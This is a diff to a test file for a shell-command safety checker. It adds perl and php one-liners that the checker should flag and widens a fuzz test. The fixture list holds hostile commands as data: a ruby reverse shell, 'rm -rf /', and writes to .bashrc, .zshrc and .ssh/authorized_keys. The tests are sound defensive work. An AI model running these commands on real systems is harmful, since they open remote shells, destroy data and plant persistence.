@@ -103,8 +103,14 @@ const DANGEROUS: Array<[string, string, string]> = [
   ['forbid', 'reverse-shell', `ruby -rsocket -e 'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`],
   ['ask', 'interpreter-code-unknown', `ruby -e 'eval(ARGV[0])'`],
   ['ask', 'interpreter-code-unparsed', `ruby -e 'def ('`],
-  // perl (scanned)
+  // perl and php (scanned)
   ['ask', 'rm-recursive-root-or-home', `perl -e 'system("rm -rf /")'`],
+  ['ask', 'write-startup-file', `perl -e 'open(F, ">>", "$ENV{HOME}/.bashrc"); print F "alias ls=rm\\n"'`],
+  ['ask', 'write-startup-file', `perl -e 'open(my $f, ">>$ENV{HOME}/.bashrc") or die; print $f "x"'`],
+  ['ask', 'write-startup-file', `perl -e 'open(F, ">>", $ENV{HOME} . "/.zshrc")'`],
+  ['operator', 'write-privilege-file', `perl -e 'open(F, ">>", "/home/me/.ssh/authorized_keys")'`],
+  ['ask', 'unknown-target', `perl -e 'open(F, ">", $path); print F "x"'`],
+  ['ask', 'write-startup-file', `php -r 'file_put_contents(getenv("HOME") . "/.bashrc", "x", FILE_APPEND);'`],
 ];
 
 const BENIGN = [
@@ -155,6 +161,10 @@ const BENIGN = [
   `ruby -ne 'puts $_ if /x/' file.txt`,
   `perl -ne 'print if /exec/'`,
   `perl -e 'print "hello\\n"'`,
+  `perl -e 'open(F, ">", "out.txt"); print F "x"'`,
+  `perl -e 'open(F, "<", "in.txt"); print <F>'`,
+  `perl -pi -e 's/foo/bar/' src/app.c`,
+  `php -r 'file_put_contents("out.txt", "x");'`,
 ];
 
 describe('interpreter one-liners: dangerous calls get their decision and rule', () => {
@@ -221,13 +231,15 @@ describe('fuzz: garbage around a dangerous call never lets it through', () => {
   for (const lang of ['python', 'node', 'ruby'] as const) {
     it(`${lang}: decided not allow, whatever surrounds the call (parsed and read, or unparsed and asked)`, () => {
       const junk = fc.array(fc.constantFrom(...GARBAGE[lang]), { maxLength: 12 }).map((a) => a.join(''));
+      // What joins the junk to the call is never a name character: `y` + `os.system` is `yos.system`, another function.
+      const joint = fc.constantFrom(' ', '\n', ';', '(', ',', '=', '+', '.', '!', '[');
       fc.assert(
-        fc.property(junk, fc.constantFrom(...CALLS[lang]), junk, (before, call, after) => {
-          const code = `${before}${call}${after}`;
+        fc.property(junk, joint, fc.constantFrom(...CALLS[lang]), junk, (before, glue, call, after) => {
+          const code = `${before}${glue}${call}${after}`;
           const d = decide(`${BIN[lang]} - <<'CODE'\n${code}\nCODE`, policy, ctx);
           expect(d.decision, code).not.toBe('allow');
         }),
-        { numRuns: 150 },
+        { numRuns: 300 },
       );
     });
   }
